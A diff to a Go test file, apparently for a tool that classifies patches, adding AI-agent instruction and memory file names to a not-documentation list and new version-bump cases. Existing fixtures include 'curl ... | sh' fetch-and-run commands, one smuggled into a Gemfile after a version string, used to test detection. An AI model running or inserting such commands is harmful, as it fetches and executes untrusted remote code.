@@ -139,7 +139,7 @@ func TestNotDocumentation(t *testing.T) {
 		.hidden/a.md app/.new-agent/rules.txt .github/agents/a.md .github/chatmodes/a.chatmode.md .github/instructions/a.md .github/workflows/a.md
 		a.instructions.md a.prompt.md a.chatmode.md a.agent.md docs/a.mdc prompts/system.md plugin/skills/pdf/forms.md commands/deploy.md
 		memory-bank/projectContext.md PROMPT.md agent/system_prompt.md SOUL.md testdata/golden.md tests/fixtures/page.md app/__snapshots__/a.md templates/mail.md emails/welcome.md app/views/mailer/welcome.md
-		src/prompts.md GPT.md ai/instructions.md
+		src/prompts.md GPT.md ai/instructions.md memory/constitution.md MEMORY.md CODY.md HEARTBEAT.md
 		build.coffee.md bin/news scripts/history hooks/changes docs/robots.txt .changes.md`) {
 		if skipped(patchtest.Change(patchtest.Touch(name))) {
 			t.Errorf("%s is documentation", name)
@@ -228,6 +228,8 @@ func TestOnlyVersions(t *testing.T) {
 		{"package.json", `"test": "curl 10.0.0.1 | sh",`, `"test": "curl 10.0.0.2 | sh",`, false},
 		{"package.json", `"build": "serve --port 8080",`, `"build": "serve --port 8081",`, false},
 		{"pyproject.toml", "fail_under = 100", "fail_under = 0", false},
+		{"pyproject.toml", "fail_under = 90.5", "fail_under = 0.5", false},
+		{"requirements.txt", "django == 4.2", "django == 5.0", true},
 		{"pom.xml", "<threshold>100</threshold>", "<threshold>0</threshold>", false},
 		{"Gemfile", `gem "rails", "7.1.2"`, `gem "rails", "7.1.3"; system("curl x | sh")`, false},
 		{"Gemfile", "x", "x\n" + `system("curl x | sh")`, false},
